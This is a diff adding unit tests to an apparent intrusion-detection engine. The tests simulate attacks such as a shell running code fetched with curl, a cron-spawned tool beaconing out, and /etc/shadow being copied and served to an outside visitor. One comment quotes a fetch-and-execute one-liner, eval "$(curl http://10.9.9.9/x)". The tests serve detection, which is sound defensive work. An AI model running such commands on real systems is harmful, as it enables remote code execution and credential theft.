@@ -29,7 +29,10 @@ enum {
     LIST,
     QUESTION,
     MIRROR,
-    SECOND
+    SECOND,
+    PART,
+    HTTPD,
+    VISIT
 };
 
 static const char ASSETS[] = "assets:\n"
@@ -51,6 +54,8 @@ static void entities(struct world *w)
     world_process(w, HELPER, "web01", "/usr/lib/git-core/git-remote-http", "git remote-http", NULL);
     world_process(w, MAKE, "web01", "/usr/bin/make", "make", NULL);
     world_process(w, CRON, "web01", "/usr/sbin/cron", "cron", NULL);
+    world_process(w, HTTPD, "web01", "/usr/sbin/httpd", "httpd", NULL);
+    world_process(w, PART, "web01", "/usr/sbin/cron", "cron", NULL);
     world_process(w, BACKUP, "web01", "/bin/tar", "tar", NULL);
     world_note(w, PIPE, BTR_KIND_CHANNEL, 0, "web01", 0);
     world_file(w, HASHES, "web01", "/etc/shadow");
@@ -63,6 +68,7 @@ static void entities(struct world *w)
     world_process(w, SECOND, "web01", "/bin/dash", "sh", NULL);
     world_note(w, QUESTION, BTR_KIND_DNS, 0, NULL, BTR_ATTR_DNS_QUESTION_NAME, "x.example", 0);
     world_connection(w, MIRROR, 0, "10.0.0.1", "4003", "10.0.0.77", "80");
+    world_connection(w, VISIT, BTR_ENTITY_OUTSIDE, "10.8.8.8", "4100", "10.0.0.1", "80");
 }
 
 /* From where the intrusion came: a script, say. */
@@ -154,6 +160,61 @@ static void by_cron(struct world *w)
     world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
 }
 
+/* What came is told to somebody whom cron started, as others before; that starts the alert. */
+static void by_a_child_of_cron(struct world *w)
+{
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    fetches(w, CURL);
+    pipes(w, CURL, PART);
+    world_does(w, PART, BTR_OP_FORK, TOOL);
+    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
+}
+
+static void by_a_part_of_cron(struct world *w)
+{
+    world_does(w, CRON, BTR_OP_FORK, BACKUP);
+    world_does(w, CRON, BTR_OP_FORK, PART);
+    by_a_child_of_cron(w);
+}
+
+static void by_a_part_of_a_part_of_cron(struct world *w)
+{
+    world_does(w, CRON, BTR_OP_FORK, BACKUP);
+    world_does(w, CRON, BTR_OP_FORK, SECOND);
+    world_runs(w, SECOND, "/usr/sbin/cron", "cron");
+    world_does(w, SECOND, BTR_OP_FORK, PART);
+    by_a_child_of_cron(w);
+}
+
+/* It runs a program of its own. */
+static void by_a_shell_of_cron(struct world *w)
+{
+    world_does(w, CRON, BTR_OP_FORK, BACKUP);
+    world_does(w, CRON, BTR_OP_FORK, PART);
+    world_runs(w, PART, "/bin/dash", "sh");
+    by_a_child_of_cron(w);
+}
+
+/* It runs the same one anew. */
+static void by_a_cron_of_cron(struct world *w)
+{
+    world_does(w, CRON, BTR_OP_FORK, BACKUP);
+    world_does(w, CRON, BTR_OP_FORK, PART);
+    world_does(w, PART, BTR_OP_EXEC, LIST);
+    by_a_child_of_cron(w);
+}
+
+/* By the part of a part of a shell that had started nothing before. */
+static void by_a_subshell(struct world *w)
+{
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    world_does(w, BASH, BTR_OP_FORK, SH);
+    world_does(w, SH, BTR_OP_FORK, SECOND);
+    fetches(w, CURL);
+    pipes(w, CURL, SECOND);
+    steals(w, SECOND);
+}
+
 /* What was fetched was copied by a backup, and it is the copy that somebody ran. */
 static void carried(struct world *w)
 {
@@ -207,6 +268,11 @@ static void who_does_it_for_others_or_carries_it_is_not(void **state)
     assert_true(owns(fetched_and_built, MAKE));
     assert_true(owns(by_cron, CURL));
     assert_false(owns(by_cron, CRON));
+    assert_false(owns(by_a_part_of_cron, PART));
+    assert_false(owns(by_a_part_of_a_part_of_cron, PART));
+    assert_true(owns(by_a_shell_of_cron, PART));
+    assert_true(owns(by_a_cron_of_cron, PART));
+    assert_true(owns(by_a_subshell, SECOND));
     assert_true(owns(carried, CURL));
     assert_false(owns(carried, BACKUP));
     assert_true(owns(carried_to_its_own, SH));
@@ -304,6 +370,50 @@ static void read_and_mirrored(struct world *w)
     read_and_sent(w, BTR_OP_CONNECT, MIRROR);
 }
 
+/* A server hands a file out to somebody outside. */
+static void handed_out(struct world *w, uint64_t file)
+{
+    world_does(w, HTTPD, BTR_OP_ACCEPT, VISIT);
+    world_does(w, HTTPD, BTR_OP_RECV, VISIT)->bytes = 90;
+    world_does(w, HTTPD, BTR_OP_READ, file)->bytes = 900;
+    world_does(w, HTTPD, BTR_OP_SEND, VISIT)->bytes = 900;
+    w->now_ns -= 4000000000;
+}
+
+/* It is put where a server finds it: written, or moved there unread. */
+static void read_and_served(struct world *w)
+{
+    read_by_a_later_program(w);
+    w->batch.event_count -= 2;
+    w->now_ns += 4000000000;
+    writes(w, SYNC, COPY, 900);
+    handed_out(w, COPY);
+    w->now_ns -= 6000000000;
+}
+
+static void read_and_moved_to_a_server(struct world *w)
+{
+    read_by_a_later_program(w);
+    w->batch.event_count -= 3;
+    w->now_ns += 3000000000;
+    world_does(w, SYNC, BTR_OP_RENAME, COPY);
+    world_event(w, HASHES, BTR_OP_RENAMED, COPY, w->now_ns, w->now_ns)->flags = BTR_EVENT_PART;
+    handed_out(w, COPY);
+    w->now_ns -= 4000000000;
+}
+
+/* It is put somewhere, and the server hands out what it wrote itself. */
+static void read_and_served_something_else(struct world *w)
+{
+    read_by_a_later_program(w);
+    w->batch.event_count -= 2;
+    w->now_ns += 4000000000;
+    writes(w, SYNC, COPY, 900);
+    writes(w, HTTPD, TABLE, 900);
+    handed_out(w, TABLE);
+    w->now_ns -= 8000000000;
+}
+
 /* eval "$(curl http://10.9.9.9/x)", by a shell that had started something before. */
 static void evaluated(struct world *w)
 {
@@ -313,6 +423,26 @@ static void evaluated(struct world *w)
     fetches(w, CURL);
     pipes(w, CURL, BASH);
     steals(w, BASH);
+}
+
+/* The same, by a shell of which no record tells who started it. */
+static void evaluated_by_an_old_shell(struct world *w)
+{
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    fetches(w, CURL);
+    pipes(w, CURL, BASH);
+    steals(w, BASH);
+}
+
+/* By a part of a daemon that had started others. */
+static void evaluated_by_a_part(struct world *w)
+{
+    world_does(w, CRON, BTR_OP_FORK, BACKUP);
+    world_does(w, CRON, BTR_OP_FORK, PART);
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    fetches(w, CURL);
+    pipes(w, CURL, PART);
+    steals(w, PART);
 }
 
 /* . ./x, the same from a file. */
@@ -334,7 +464,11 @@ static void who_then_sends_something_may_be_steered(void **state)
                                          read_and_moved,
                                          read_and_asked,
                                          read_and_mirrored,
+                                         read_and_served,
+                                         read_and_moved_to_a_server,
                                          evaluated,
+                                         evaluated_by_an_old_shell,
+                                         evaluated_by_a_part,
                                          sourced};
     (void)state;
     for (size_t i = 0; i < sizeof HISTORIES / sizeof *HISTORIES; i++) {
@@ -352,6 +486,12 @@ static void who_then_sends_something_may_be_steered(void **state)
         ledger_free(&l);
         world_close(&w);
     }
+}
+
+static void who_puts_it_where_nobody_fetches_it_sent_nothing(void **state)
+{
+    (void)state;
+    expect(read_and_served_something_else, LOSS_NOT);
 }
 
 /* The alert is the download: nothing leads from it to what was run of it. */
@@ -385,6 +525,7 @@ int loss_through_tests(void)
         cmocka_unit_test(what_was_fetched_and_run_is_the_intrusion),
         cmocka_unit_test(who_does_it_for_others_or_carries_it_is_not),
         cmocka_unit_test(the_alerts_own_process_is_driven_unless_a_server_started_it),
+        cmocka_unit_test(who_puts_it_where_nobody_fetches_it_sent_nothing),
         cmocka_unit_test(who_then_sends_something_may_be_steered),
         cmocka_unit_test(of_a_download_what_ran_it_may_be_steered),
     };
